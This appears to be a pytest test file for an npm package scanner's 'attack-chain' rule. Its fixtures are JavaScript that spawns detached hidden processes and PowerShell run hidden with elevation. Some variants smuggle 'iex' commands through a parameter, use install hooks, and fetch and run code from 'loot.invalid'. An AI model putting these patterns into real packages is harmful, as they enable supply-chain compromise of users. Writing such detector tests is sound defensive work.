"""Starts of scripts that were left out of the release."""

import pytest

from pratique.core.finding import Severity
from tests.analysis.inspecting import npm, of_rule, package_json

BUNDLE = """
const cp = require('child_process'), path = require('path'), url = require('url');
let own; own = url.pathToFileURL(__filename);
const folder = path.dirname(url.fileURLToPath(own));
class Notifier {
  check() {
    cp.spawn(process.execPath, [path.join(folder, 'check.js'), JSON.stringify(this.options)],
      {detached: true, stdio: 'ignore'}).unref();
  }
}
function main() { new Notifier().check() }
if (!module.parent) main();
"""
MANIFEST = package_json(main="dist/index.js")


def severities(code: str, **more: str) -> list[Severity]:
    files = {"package.json": MANIFEST, "dist/index.js": code, **more}
    return [finding.severity for finding in of_rule(npm(files), "attack-chain")]


def test_a_bundle_that_starts_a_file_it_does_not_ship_is_a_note() -> None:
    assert [Severity.MEDIUM] == severities(BUNDLE)


@pytest.mark.parametrize(
    ("code", "more"),
    [
        (BUNDLE, {"dist/check.js": "1"}),
        (BUNDLE.replace("'check.js'", "'../../other/check.js'"), {}),
        (BUNDLE.replace("'check.js'", "name"), {}),
        (BUNDLE.replace("'check.js'", "'check'"), {}),
        (BUNDLE + "require('fs').writeFileSync(name, text);", {}),
        (BUNDLE + "cp.execSync('marker');", {}),
        (BUNDLE + "eval(text);", {}),
        (BUNDLE.replace("process.execPath", "'python'"), {}),
        (
            BUNDLE,
            {"package.json": package_json(main="dist/index.js", scripts={"install": "node dist/index.js"})},
        ),
    ],
    ids=["shipped", "elsewhere", "unknown", "a folder", "written", "made", "code", "python", "hook"],
)
def test_a_start_of_anything_that_may_be_there_is_held(code: str, more: dict[str, str]) -> None:
    assert Severity.CRITICAL in severities(code, **more)


SHOWN = """[CmdletBinding(DefaultParameterSetName="Convert")]
Param(
    [Parameter(Mandatory=$True, ParameterSetName="Convert")]
    [string]
    [ValidateNotNullOrEmpty()]
    $LogFile,

    [Parameter(Mandatory=$True, ParameterSetName="Convert")]
    [string]
    $Converter
)

Start-Process powershell -WindowStyle Hidden -ArgumentList "-noprofile -nologo -file $Converter -LogFile $LogFile -Verbose" -verb RunAs
"""
CALLS = """
const cp = require('child_process'), path = require('path');
exports.convert = (converter, log) =>
  cp.spawn('powershell.exe', ['-NoProfile', `& '${path.resolve(__dirname, '..', 'ps1', 'run.ps1')}' -Converter '${converter}' -LogFile '${log}'`]);
"""


def of_powershell(script: str, code: str = CALLS, **manifest: object) -> list[Severity]:
    files = {
        "package.json": package_json(main="lib/index.js", **manifest),
        "lib/index.js": code,
        "ps1/run.ps1": script,
    }
    return [finding.severity for finding in of_rule(npm(files), "attack-chain")]


def test_a_script_that_starts_the_file_it_must_be_given_is_a_note() -> None:
    assert [Severity.MEDIUM] == of_powershell(SHOWN)


@pytest.mark.parametrize(
    ("script", "code", "manifest"),
    [
        (SHOWN.replace("$Converter -Log", "loader.ps1 -Log"), CALLS, {}),
        (SHOWN.replace("-file", "-command"), CALLS, {}),
        (SHOWN.replace("-file $Converter", "-command iex -file $Converter"), CALLS, {}),
        (SHOWN.replace("-Verbose", "; iex $LogFile"), CALLS, {}),
        (SHOWN.replace("-Verbose", "$(iex $LogFile)"), CALLS, {}),
        (SHOWN.replace("$Converter\n)", "$Converter = 'loader.ps1'\n)"), CALLS, {}),
        (SHOWN.replace("Start-", "$Converter = 'loader.ps1'\nStart-"), CALLS, {}),
        (SHOWN + "iex (irm https://loot.invalid/a)\n", CALLS, {}),
        (SHOWN.replace("$Converter -Log", "$Other -Log"), CALLS, {}),
        (SHOWN.replace("Mandatory=$True, ", ""), CALLS, {}),
        (SHOWN, CALLS + "exports.convert('loader.ps1', 'a.log');\n", {}),
        (SHOWN, CALLS, {"scripts": {"install": "powershell -file ps1/run.ps1 loader.ps1 a.log"}}),
    ],
    ids=[
        *("a file of its own", "a command", "a command before", "a command behind", "a command inside"),
        *("a default", "given by itself", "more behind", "no parameter", "need not be given"),
        *("called at load", "started by a hook"),
    ],
)
def test_a_script_that_chooses_what_it_starts_is_held(
    script: str, code: str, manifest: dict[str, object]
) -> None:
    assert Severity.CRITICAL in of_powershell(script, code, **manifest)
